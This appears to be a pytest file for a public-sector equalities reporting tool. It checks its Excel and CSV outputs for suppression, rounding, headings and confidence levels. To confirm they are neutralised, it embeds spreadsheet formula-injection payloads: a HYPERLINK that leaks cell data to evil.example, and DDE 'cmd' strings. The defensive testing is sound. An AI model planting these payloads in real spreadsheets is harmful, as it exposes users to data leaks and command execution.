"""Report tables on disk: GSS symbols in Excel, blanks in CSV, never a suppressed figure."""

from __future__ import annotations

import openpyxl
import pandas as pd

import evidence as ev
from evidence import outputs
from evidence.results import build


def test_tables_and_workbook(tmp_path):
    r = build(ev.Scheme.demo(), ev.demo.observations(), ev.demo.indicators())
    t = outputs.tables(r)
    gaps = t["gaps"]
    assert gaps.loc[gaps["suppressed"], ["value", "gap", "lower", "upper"]].isna().all().all()
    outputs.write_csv_json(r, tmp_path)
    path = outputs.write_excel(r, tmp_path / "tables.xlsx")
    wb = openpyxl.load_workbook(path, read_only=True)
    rows = list(wb["Gaps_over_time"].iter_rows(values_only=True))
    head = next(i for i, row in enumerate(rows) if row[0] == "Indicator code")
    xl = pd.DataFrame(rows[head + 1:], columns=rows[head])
    csv = pd.read_csv(tmp_path / "gaps.csv")
    assert len(xl) == len(csv)
    assert set(xl.loc[csv["suppressed"].to_numpy(), "Value (value unit)"]) == {"[c]"}
    notes = list(wb["Notes"].iter_rows(values_only=True))
    assert any("suppressed [c]" in str(c) for row in notes for c in row)


HOSTILE = {  # group names as an attacker (or an unlucky spreadsheet) might write them
    "Black Caribbean": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "Indian": "+1+cmd|' /C calc'!A0",
    "Pakistani": "-2+3",
    "Chinese": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Bangladeshi": "\t=1+2",
    "Arab": "\r=1+3",
    "Roma": "=1+1, said the group",
}


def hostile_results():
    obs = ev.demo.observations()
    obs["group"] = obs["group"].replace(HOSTILE)
    obs["area"] = "=AREA()"
    scheme = ev.Scheme.demo()
    scheme.name = "=TITLE()"
    return build(scheme, obs, ev.demo.indicators())


def test_hostile_text_never_becomes_a_formula(tmp_path):
    r = hostile_results()
    path = outputs.write_excel(r, tmp_path / "tables.xlsx")
    assert outputs.formula_cells(path) == []
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c for c in cells if c.hyperlink and "evil" in str(c.hyperlink.target)]
    text = {c.value for c in cells if isinstance(c.value, str)}
    if outputs.writes_text_natively():  # kept as it was, stored as text
        assert "-2+3" in text and any(t.startswith("=HYPERLINK") for t in text)
    else:  # older gptables (pandas < 2.3): made inert with a visible apostrophe
        assert "'-2+3" in text and any(t.startswith("'=HYPERLINK") for t in text)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_hostile_text_is_inert_in_csv(tmp_path):
    import csv

    r = hostile_results()
    outputs.write_csv_json(r, tmp_path)
    for f in tmp_path.glob("*.csv"):
        with f.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(outputs.FORMULA_START) or _is_number(cell), (f.name, cell)
    gaps = pd.read_csv(tmp_path / "gaps.csv")
    assert "'-2+3" in set(gaps["group"]) and "'=1+1, said the group" in set(gaps["group"])
    assert (gaps["gap"].dropna() < 0).any()  # numbers stay numbers: a negative gap is not prefixed


def test_older_gptables_without_workbook_options_still_writes_no_formula(tmp_path, monkeypatch):
    import gptables

    real = gptables.write_workbook

    def old_signature(filename, sheets, cover=None, notes_table=None, contentsheet_options=None):
        return real(filename, sheets, cover=cover, notes_table=notes_table, contentsheet_options=contentsheet_options)

    monkeypatch.setattr(gptables, "write_workbook", old_signature)
    path = outputs.write_excel(hostile_results(), tmp_path / "tables.xlsx")
    assert outputs.formula_cells(path) == []
    wb = openpyxl.load_workbook(path)
    text = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert "'-2+3" in text


def test_csv_rounded_for_people_with_full_precision_beside(tmp_path):
    r = build(ev.Scheme.demo(), ev.demo.observations(), ev.demo.indicators())
    outputs.write_csv_json(r, tmp_path)
    text = (tmp_path / "measures.csv").read_text()
    m = pd.read_csv(tmp_path / "measures.csv")
    assert "gap_current_full" in m and "value_baseline_full" in m
    people = [c for c in m.columns if c in ("value_baseline", "gap_current", "gap_change", "all_current")]
    for c in people:  # one decimal place, no float noise such as 14.700000000000003
        shown = m[c].dropna()
        assert ((shown * 10).round(6) == (shown * 10).round()).all(), c
    assert (abs(m["gap_current"] - m["gap_current_full"]).dropna() <= 0.05 + 1e-9).all()
    header, first = text.splitlines()[:2]
    assert "rag" in header.split(",")


def test_workbook_headings_in_words_with_units_and_the_schemes_contact(tmp_path):
    r = build(ev.Scheme.demo(), ev.demo.observations(), ev.demo.indicators())
    path = outputs.write_excel(r, tmp_path / "tables.xlsx")
    wb = openpyxl.load_workbook(path, read_only=True)
    rows = list(wb["Measures"].iter_rows(values_only=True))
    head = next(i for i, row in enumerate(rows) if row[0] == "Objective")
    xl = pd.DataFrame(rows[head + 1:], columns=rows[head])
    for heading in xl.columns:
        assert "_" not in heading and heading != "Rag label", heading
    numeric = [c for c in xl.columns if pd.to_numeric(xl[c], errors="coerce").notna().sum() > 5]
    assert numeric and all("unit" in c or c.endswith("year") for c in numeric), numeric
    pct = xl[xl["Value unit"] == "per cent"]
    assert len(pct) and set(pct["Gap unit"]) == {"percentage points"}  # a gap in % is in percentage points
    assert "gap_not_widen" not in set(xl["What success means"]) and "no_gap" not in set(xl["Result"])
    assert "broad ethnic group" in set(xl["Characteristic"])
    cover = " ".join(str(c) for row in wb["Cover"].iter_rows(values_only=True) for c in row if c)
    assert "equalities@northbrook.example.gov.uk" in cover and "01632 960 123" in cover
    assert "evidence toolkit" not in cover


def test_workbook_and_csv_headings_name_the_reports_level(tmp_path):
    r = build(ev.Scheme.demo(), ev.demo.observations(), ev.demo.indicators(), level=0.998)
    path = outputs.write_excel(r, tmp_path / "tables.xlsx")
    outputs.write_csv_json(r, tmp_path)
    wb = openpyxl.load_workbook(path, read_only=True)
    cells = [str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if c is not None]
    assert "Gap, lower 99.8% limit (gap unit)" in cells and "Lower 99.8% limit (value unit)" in cells
    assert any("Confidence intervals are 99.8%." in c for c in cells)
    assert not [c for c in cells if "95%" in c]
    for csv in tmp_path.glob("*.csv"):
        assert "95%" not in csv.read_text().splitlines()[0]
